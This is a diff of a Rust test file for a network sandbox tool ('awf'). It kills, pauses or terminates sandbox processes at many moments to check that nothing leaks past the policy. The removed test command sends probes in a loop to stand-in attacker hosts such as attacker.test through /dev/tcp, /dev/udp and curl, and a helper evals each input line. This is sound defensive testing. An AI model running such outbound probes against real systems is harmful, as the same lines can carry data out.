@@ -1,8 +1,9 @@
-//! Death at any moment: no packet outside of the policy, no process left, and the next run removes the rest.
+//! Death, stop and farewell at any moment: no packet outside of the policy, no process left, and the next run removes the
+//! rest.
 
 use std::fs;
 use std::io::{BufRead as _, BufReader, Write as _};
-use std::process::{Child, Stdio};
+use std::process::Stdio;
 use std::sync::Mutex;
 use std::thread;
 use std::time::{Duration, Instant};
@@ -10,58 +11,31 @@ use std::time::{Duration, Instant};
 use awf_tests::unconfined;
 use nix::sys::signal::Signal;
 
-use crate::world::{
-    Ended, PATIENCE, Watch, World, children, command_line, ended, finish, finish_in, id_of,
-    leaks_of, send,
-};
+use crate::faults::{Blow, Fault, RESTLESS, Victim, inject, member, wait_for_start};
+use crate::report;
+use crate::shell::{REQUEST, Shell};
+use crate::world::{PATIENCE, Watch, World, command_line, ended, finish, id_of, leaks_of, send};
 
-/// Tries everything that is denied, and what is allowed, without pause: TCP, UDP and DNS, IPv4 and IPv6.
-const RESTLESS: &str = "echo started; exec >/dev/null 2>&1
-    ( while :; do
-        echo x >/dev/udp/203.0.113.66/9999; echo x >/dev/udp/203.0.113.66/443; echo x >/dev/udp/8.8.4.4/5353
-        echo x >/dev/udp/2600:1ab::66/443; echo x >/dev/tcp/203.0.113.66/22; echo x >/dev/tcp/2600:1ab::66/443
-        echo x >/dev/tcp/8.8.8.8/53
-    done ) &
-    ( while :; do
-        getent ahosts leak.attacker.test
-        echo x >/dev/tcp/attacker.test/443; echo x >/dev/tcp/203.0.113.66/443; echo x >/dev/tcp/93.184.216.34/8080
-    done ) &
-    ( while :; do
-        curl -s -m 2 -o /dev/null https://example.com https://denied.example.net http://93.184.216.38 http://example.com
-    done ) &
-    wait";
-
-/// When to kill after a process was born.
-fn delays() -> impl Iterator<Item = Duration> {
-    (0..=150).step_by(10).map(Duration::from_millis)
+/// When to strike after a process was born: at every step of a start.
+fn moments(step: usize) -> impl Iterator<Item = Duration> {
+    (0..=150).step_by(step).map(Duration::from_millis)
 }
 
-#[derive(Clone, Copy, Debug)]
-enum Victim {
-    /// awf, from its start.
-    Awf,
-    /// awf, from the command's start.
-    BusyAwf,
-    Squid,
-    /// The process that awf starts in the agent's cgroup.
-    Outer,
-    /// Process 1 of the sandbox.
-    One,
-    /// What becomes the command.
-    Command,
-}
-
-/// Kills the victim at every moment, each time in a run of its own.
-fn sweep(victim: Victim) {
+/// Strikes the victim at every moment, each time in a run of its own.
+fn sweep(victim: Victim, step: usize, blows: &[Blow]) {
     let watch = Watch::begin();
-    let todo = Mutex::new(delays());
+    let faults: Vec<Fault> = moments(step)
+        .zip(blows.iter().cycle())
+        .map(|(moment, blow)| Fault { victim, blow: *blow, moment })
+        .collect();
+    let todo = Mutex::new(faults.into_iter());
     thread::scope(|scope| {
         for _worker in 0..3 {
             scope.spawn(|| {
                 let world = World::new();
                 loop {
-                    let Some(delay) = todo.lock().unwrap().next() else { return };
-                    kill_once(&world, victim, delay);
+                    let Some(fault) = todo.lock().unwrap().next() else { return };
+                    inject(&world, &fault, &[]);
                 }
             });
         }
@@ -69,104 +43,18 @@ fn sweep(victim: Victim) {
     watch.saw_nothing_else();
 }
 
-fn kill_once(world: &World, victim: Victim, delay: Duration) {
-    let context = format!("{victim:?} killed after {delay:?}");
-    let began = Instant::now();
-    let mut child = world.awf().args(["--", RESTLESS]).spawn().unwrap();
-    let awf = id_of(&child);
-    let target = match victim {
-        Victim::Awf => Some(awf),
-        Victim::BusyAwf => {
-            wait_for_start(&mut child);
-            Some(awf)
-        }
-        _ => find(&mut child, victim),
-    };
-    let target = target.unwrap_or_else(|| panic!("{context}: no victim"));
-    thread::sleep(delay);
-    send(target, Signal::SIGKILL);
-    match victim {
-        Victim::Awf | Victim::BusyAwf => {
-            let run = finish_in(child, began, &context);
-            assert_eq!(run.code, 137, "{context}: {run:#?}");
-            world.dies_out(&context);
-            let next = world.run(&[], "echo next");
-            assert_eq!((next.code, next.stdout.as_str()), (0, "next\n"), "{context}: {next:#?}");
-        }
-        Victim::Squid => {
-            // The run goes on without it.
-            thread::sleep(Duration::from_millis(100));
-            assert!(
-                child.try_wait().unwrap().is_none(),
-                "{context}: {:#?}",
-                finish_in(child, began, &context)
-            );
-            send(awf, Signal::SIGTERM);
-            let run = finish_in(child, began, &context);
-            assert_eq!(run.code, 143, "{context}: {run:#?}");
-        }
-        Victim::Outer | Victim::One | Victim::Command => {
-            let run = finish_in(child, began, &context);
-            if run.stdout == "started\n" {
-                assert_eq!(run.code, 137, "{context}: {run:#?}");
-            } else {
-                assert_ne!(run.code, 0, "{context}: {run:#?}");
-            }
-            assert!(run.took < delay + Duration::from_secs(20), "{context}: {run:#?}");
-        }
-    }
-    world.dies_out(&context);
-    assert_eq!(world.left(), [""; 0], "{context}");
+fn kills(victim: Victim) {
+    sweep(victim, 10, &[Blow::Kill]);
 }
 
-/// Waits until the command runs. Its later output is not read, and there is none.
-fn wait_for_start(child: &mut Child) {
-    let mut stdout = child.stdout.take().unwrap();
-    let mut byte = [0; 1];
-    assert_eq!(
-        std::io::Read::read(&mut stdout, &mut byte).unwrap(),
-        1,
-        "the command did not start"
-    );
-    // Closed here: nobody writes to it any more.
+fn farewells(victim: Victim) {
+    sweep(victim, 30, &[Blow::Term]);
 }
 
-/// Waits for the birth of a process of the run.
-fn find(child: &mut Child, victim: Victim) -> Option<i32> {
-    let awf = id_of(child);
-    let began = Instant::now();
-    while began.elapsed() < PATIENCE && child.try_wait().unwrap().is_none() {
-        let outer = || {
-            let is_init = |pid: &i32| command_line(*pid).get(1).is_some_and(|word| word == "init");
-            children(awf).into_iter().find(is_init)
-        };
-        // Beside it a helper lives for a moment.
-        let one = || children(outer()?).into_iter().find(|pid| is_process_one(*pid));
-        let found = match victim {
-            Victim::Awf | Victim::BusyAwf => Some(awf),
-            Victim::Squid => squid(awf),
-            Victim::Outer => outer(),
-            Victim::One => one(),
-            Victim::Command => one().and_then(|pid| children(pid).first().copied()),
-        };
-        if found.is_some() {
-            return found;
-        }
-        thread::sleep(Duration::from_micros(200));
-    }
-    None
-}
-
-/// Whether a process is the first of a pid namespace: the last of its ids (proc(5), `NSpid`) is 1.
-fn is_process_one(pid: i32) -> bool {
-    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
-    let ids = status.lines().find(|line| line.starts_with("NSpid:"));
-    ids.is_some_and(|ids| ids.split_whitespace().next_back() == Some("1"))
-}
-
-fn squid(awf: i32) -> Option<i32> {
-    let is_squid = |word: &String| word == "awf-proxy" || word.ends_with("/squid");
-    children(awf).into_iter().find(|pid| command_line(*pid).first().is_some_and(is_squid))
+/// A stop of a hundred milliseconds lets everybody else run into it.
+fn stops(victim: Victim) {
+    const LONG: Duration = Duration::from_millis(100);
+    sweep(victim, 20, &[Blow::Pause(LONG), Blow::KillStopped(LONG)]);
 }
 
 #[test]
@@ -182,41 +70,97 @@ fn what_the_restless_command_tries_reaches_the_sink_without_awf() {
 
 #[test]
 fn awf_may_be_killed_at_any_moment_of_its_start() {
-    sweep(Victim::Awf);
+    kills(Victim::Awf);
 }
 
 #[test]
 fn awf_may_be_killed_while_the_command_tries_everything() {
-    sweep(Victim::BusyAwf);
+    kills(Victim::BusyAwf);
 }
 
 #[test]
 fn squid_may_be_killed_at_any_moment() {
-    sweep(Victim::Squid);
+    kills(Victim::Squid);
 }
 
 #[test]
 fn the_first_process_of_the_sandbox_may_be_killed_at_any_moment() {
-    sweep(Victim::Outer);
+    kills(Victim::Outer);
 }
 
 #[test]
 fn process_1_of_the_sandbox_may_be_killed_at_any_moment() {
-    sweep(Victim::One);
+    kills(Victim::One);
 }
 
 #[test]
 fn the_command_may_be_killed_at_any_moment() {
-    sweep(Victim::Command);
+    kills(Victim::Command);
+}
+
+#[test]
+fn awf_may_be_stopped_at_any_moment_of_its_start() {
+    stops(Victim::Awf);
+}
+
+#[test]
+fn awf_may_be_stopped_while_the_command_tries_everything() {
+    stops(Victim::BusyAwf);
+}
+
+#[test]
+fn squid_may_be_stopped_at_any_moment() {
+    stops(Victim::Squid);
+}
+
+#[test]
+fn the_first_process_of_the_sandbox_may_be_stopped_at_any_moment() {
+    stops(Victim::Outer);
+}
+
+#[test]
+fn process_1_of_the_sandbox_may_be_stopped_at_any_moment() {
+    stops(Victim::One);
+}
+
+#[test]
+fn the_command_may_be_stopped_at_any_moment() {
+    stops(Victim::Command);
+}
+
+#[test]
+fn sigterm_to_awf_while_the_command_tries_everything_ends_the_run() {
+    farewells(Victim::BusyAwf);
+}
+
+#[test]
+fn sigterm_to_squid_is_made_good_at_any_moment() {
+    farewells(Victim::Squid);
+}
+
+#[test]
+fn sigterm_to_the_first_process_of_the_sandbox_ends_the_run_at_any_moment() {
+    farewells(Victim::Outer);
+}
+
+#[test]
+fn sigterm_to_process_1_of_the_sandbox_changes_nothing_at_any_moment() {
+    farewells(Victim::One);
+}
+
+#[test]
+fn sigterm_to_the_command_ends_the_run_at_any_moment() {
+    farewells(Victim::Command);
 }
 
 #[test]
 fn sigterm_ends_awf_at_any_moment_of_its_start() {
     let world = World::new();
-    for delay in delays() {
+    for delay in moments(10) {
         let began = Instant::now();
         let child = world.awf().args(["--", "sleep 60"]).spawn().unwrap();
         thread::sleep(delay);
+        report::injected("SIGTERM", "Awf");
         send(id_of(&child), Signal::SIGTERM);
         let run = finish(child, began);
         assert_eq!(run.code, 143, "after {delay:?}: {run:#?}");
@@ -254,40 +198,6 @@ fn the_remains_of_a_killed_run_are_there_until_the_next_run_removes_them_and_no_
     assert_eq!(world.left(), [""; 0]);
 }
 
-/// A run that answers each line of input with one line of output, after executing it.
-struct Shell {
-    child: Child,
-    said: std::io::Lines<BufReader<std::process::ChildStdout>>,
-    began: Instant,
-}
-
-impl Shell {
-    fn start(world: &World) -> Self {
-        let began = Instant::now();
-        let line = "while read -r line; do eval \"$line\"; done";
-        let mut child = world.awf().args(["--", line]).stdin(Stdio::piped()).spawn().unwrap();
-        let said = BufReader::new(child.stdout.take().unwrap()).lines();
-        Self { child, said, began }
-    }
-
-    fn ask(&mut self, line: &str) -> String {
-        self.tell(line);
-        self.said.next().expect("the run is alive").unwrap()
-    }
-
-    fn tell(&mut self, line: &str) {
-        writeln!(self.child.stdin.as_mut().unwrap(), "{line}").unwrap();
-    }
-
-    fn end(mut self) -> Ended {
-        drop(self.child.stdin.take());
-        finish(self.child, self.began)
-    }
-}
-
-/// Prints curl's exit code.
-const REQUEST: &str = "curl -s -m 20 -o /dev/null https://example.com; echo $?";
-
 #[test]
 fn a_killed_squid_is_replaced_and_connections_in_flight_end() {
     let world = World::new();
@@ -297,9 +207,9 @@ fn a_killed_squid_is_replaced_and_connections_in_flight_end() {
     shell
         .tell("{ curl -s --limit-rate 1m -o big -m 60 https://files.test/1GiB; echo ended $?; } &");
     shell.ask("until [ -s big ]; do sleep 0.01; done; echo flowing");
-    let first = squid(id_of(&shell.child)).expect("Squid runs");
+    let first = member(shell.awf(), Victim::Squid).expect("Squid runs");
     send(first, Signal::SIGKILL);
-    let in_flight = shell.said.next().unwrap().unwrap();
+    let in_flight = shell.hear();
     assert!(in_flight.starts_with("ended ") && in_flight != "ended 0", "{in_flight}");
     // The very next request may meet the moment before the death is noticed.
     let answers: Vec<String> = (0..50)
@@ -308,7 +218,7 @@ fn a_killed_squid_is_replaced_and_connections_in_flight_end() {
         .collect();
     assert_eq!(answers.last().unwrap(), "0", "{answers:?}");
     assert!(answers.len() < 20, "{answers:?}");
-    assert_ne!(squid(id_of(&shell.child)), Some(first));
+    assert_ne!(member(shell.awf(), Victim::Squid), Some(first));
     let denied = shell.ask("curl -s -m 20 -o /dev/null https://denied.example.net; echo $?");
     assert_ne!(denied, "0", "the new Squid allows more");
     let run = shell.end();
@@ -326,7 +236,7 @@ fn a_squid_that_keeps_dying_leaves_a_run_that_fails_fast_and_ends_well() {
     // Restarts come ever later; three seconds without one means that awf has given up.
     let mut last = Instant::now();
     while last.elapsed() < Duration::from_secs(4) && began.elapsed() < PATIENCE {
-        if let Some(pid) = squid(id_of(&shell.child)) {
+        if let Some(pid) = member(shell.awf(), Victim::Squid) {
             send(pid, Signal::SIGKILL);
             deaths += 1;
             last = Instant::now();
